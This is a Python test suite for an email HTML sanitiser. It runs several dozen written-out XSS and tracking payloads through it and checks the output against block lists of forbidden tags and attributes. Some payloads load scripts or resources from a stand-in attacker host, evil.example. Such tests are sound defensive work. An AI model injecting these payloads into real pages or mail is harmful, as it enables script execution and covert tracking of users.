"""Nothing that a mail brings may run, load or leave its frame."""

from collections.abc import Iterator

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mailcore.text import sanitise, show_remote, with_cid_urls

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    '<a href="java&#115;cript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src='https://evil.example'></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data='x.swf'></object><embed src='x.swf'><applet code=x></applet>",
    "<form action='https://evil.example'><input name=password><button formaction=x>Log in</button></form>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/x)}</style>",
    "<p style='background-image:url(https://evil.example/x)'>x</p>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style='background:#fff url(https://evil.example/x)'>x</p>",
    "<p style='background:u\\72l(https://evil.example/x)'>x</p>",
    "<p style='background:red;background-image:url(https://evil.example/x)'>x</p>",
    "<p style='background:a(&quot;;background-image:url(https://evil.example/x)'>x</p>",
    "<p style='font-family:&quot;a;background:url(https://evil.example/x)&quot;;background:red'>x</p>",
    "<p style='background:red;font-family:\"a\n;background-image:url(https://evil.example/x)\"'>x</p>",
    "<p style='background:red;font-family:&quot;a&#10;;background-image:url(https://evil.example/x)&quot;'>x</p>",
    "<p style='list-style:url(https://evil.example/x)'>x</p>",
    "<p style='content:url(https://evil.example/x);cursor:url(https://evil.example/x)'>x</p>",
    "<p style='position:fixed;top:0;left:0;z-index:9;width:100%'>x</p>",
    "<p style='behavior:url(x.htc);-moz-binding:url(x.xml)'>x</p>",
    "<table background='https://evil.example/x'><tr><td background='https://evil.example/x'>x</table>",
    "<body background='https://evil.example/x' onload=alert(1)>x</body>",
    "<img srcset='https://evil.example/x 2x' src='https://evil.example/x'>",
    "<img src=//evil.example/x>",
    "<img src='ftp://evil.example/x'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<picture><source srcset='https://evil.example/x'><img src='cid:x'></picture>",
    "<video src='https://evil.example/x' poster='https://evil.example/y' autoplay></video>",
    "<audio src='https://evil.example/x'></audio>",
    "<input type=image src='https://evil.example/x'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--<img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<template><script>alert(1)</script></template>",
    "<p title='<img src=\"https://evil.example/x\">' lang='<script>'>x</p>",
    '<p title=\'data-remote-src="https://evil.example/x"\'>data-remote-src="https://evil.example/x"</p>',
    "<img data-remote-src='javascript:alert(1)' src='cid:x'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='https://ok.example' target=_self ping='https://evil.example' rel=opener>x</a>",
    "<button onclick=alert(1)>x</button><isindex action=javascript:alert(1)>",
    "<frameset><frame src='https://evil.example'></frameset>",
    "<plaintext><script>alert(1)</script>",
]

ALLOWED_SOURCES = ("cid:", *(f"data:image/{kind}" for kind in ("png", "jpeg", "gif", "webp", "bmp")))
FORBIDDEN = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button",
    "base", "link", "meta", "svg", "math", "video", "audio", "source", "picture", "template", "noscript",
    "select", "textarea",
}  # fmt: skip
LOADING = {
    "background",
    "srcset",
    "poster",
    "action",
    "formaction",
    "ping",
    "srcdoc",
    "data",
    "xlink:href",
    "id",
}


def elements(html: str) -> Iterator[tuple[str, dict[str, str]]]:
    for scripting in (False, True):
        parser = html5lib.HTMLParser(tree=html5lib.getTreeBuilder("etree"), namespaceHTMLElements=False)
        for element in parser.parseFragment(html, scripting=scripting).iter():
            if isinstance(element.tag, str):
                yield element.tag, dict(element.attrib)


def check(html: str, *, remote: bool = False) -> None:
    for tag, attributes in elements(html):
        assert tag not in FORBIDDEN
        assert not set(attributes) & LOADING
        assert not [name for name in attributes if name.startswith("on")]
        source = attributes.get("src", "cid:")
        assert source.startswith(ALLOWED_SOURCES + (("http:", "https:") if remote else ()))
        assert attributes.get("data-remote-src", "http:").startswith(("http:", "https:"))
        assert attributes.get("href", "https:").startswith(("http:", "https:", "mailto:", "tel:"))
        style = attributes.get("style", "").lower()
        assert "position" not in style
        assert not ("url(" in style and "font-family" not in style)
        assert "background-image" not in [part.partition(":")[0].strip() for part in style.split(";")]
        if tag == "a" and "href" in attributes:
            assert attributes["target"] == "_blank"
            assert attributes["rel"] == "noopener noreferrer"


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "padding", ["", "<br>" * 600, "&amp;" * 600], ids=["short", "many tags", "many entities"]
)
def test_payloads(payload: str, padding: str) -> None:
    html = sanitise(padding + payload).removeprefix(padding)

    assert not html.startswith(
        padding[:4] or "\0"
    )  # the padding only chooses the way through; it is gone here
    check(html)
    check(show_remote(html, str), remote=True)


PIECES = st.sampled_from(
    [
        *PAYLOADS,
        "<",
        ">",
        '"',
        "'",
        "&",
        "&lt;",
        "&quot;",
        "&#60;",
        "=",
        "/",
        " ",
        "<p title=",
        "<img src=",
        "<a href=",
    ]
)


@given(st.lists(PIECES | st.text(max_size=4), max_size=12).map("".join), st.booleans())
@settings(max_examples=80, deadline=None)
def test_any_mixture_of_payloads(html: str, long: bool) -> None:
    check(show_remote(sanitise("<br>" * 600 * long + html).removeprefix("<br>" * 600), str), remote=True)


@given(st.lists(PIECES, max_size=10).map("".join))
@settings(max_examples=50, deadline=None)
def test_cleaning_twice_changes_nothing(html: str) -> None:
    once = show_remote(sanitise(html), str)

    assert show_remote(sanitise(once), str) == once


def test_what_mails_look_like_stays() -> None:
    html = (
        '<table width="600" cellpadding="4" bgcolor="#eee"><tbody><tr><td style="color:red;padding:4px">'
        '<font face="Arial" size="2">Sale</font></td></tr></tbody></table><center>now</center>'
        '<div class="gmail_quote other">old</div>'
    )
    clean = sanitise(html)

    for kept in (
        'width="600"',
        'bgcolor="#eee"',
        'style="color:red;padding:4px"',
        '<font face="Arial"',
        "<center>",
    ):
        assert kept in clean
    assert 'class="gmail_quote"' in clean


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("background:#fff", "background-color:#fff"),
        ("background: rgb(1, 2, 3); color: red", "background-color:rgb(1, 2, 3);color:red"),
        ('font-family:"Segoe UI";background:red', 'font-family:"Segoe UI";background-color:red'),
    ],
)
def test_backgrounds_keep_their_colour(style: str, kept: str) -> None:
    ((_, attributes), *_) = [
        each for each in elements(sanitise(f"<p style='{style}'>x</p>")) if each[0] == "p"
    ]

    assert attributes["style"].replace(", ", ",") == kept.replace(", ", ",")


def test_remote_images_wait_for_a_click() -> None:
    html = sanitise('<img src="https://shop.example/a.png?x=1&amp;y=2" width="10">')

    assert html == '<img data-remote-src="https://shop.example/a.png?x=1&amp;y=2" width="10">'
    assert show_remote(html, str) == (
        '<img referrerpolicy="no-referrer" src="https://shop.example/a.png?x=1&amp;y=2" width="10">'
    )


def test_images_of_the_mail_get_addresses() -> None:
    html = sanitise('<img src="cid:logo%40x"><img src="CID:gone"><p title="cid:logo@x">cid:logo@x</p>')

    assert with_cid_urls(html, {"logo@x": "/files/7?a=1&b=2"}.get) == (
        '<img src="/files/7?a=1&amp;b=2"><img><p title="cid:logo@x">cid:logo@x</p>'
    )


def test_long_mails_are_the_same_as_short_ones() -> None:
    html = '<p>Hello <b>you</b> &amp; me &lt;3 &copy; <a href="https://example.com/?a=1&amp;b=2">x</a></p>'
    many = sanitise(html * 300)

    assert many == sanitise(html) * 300
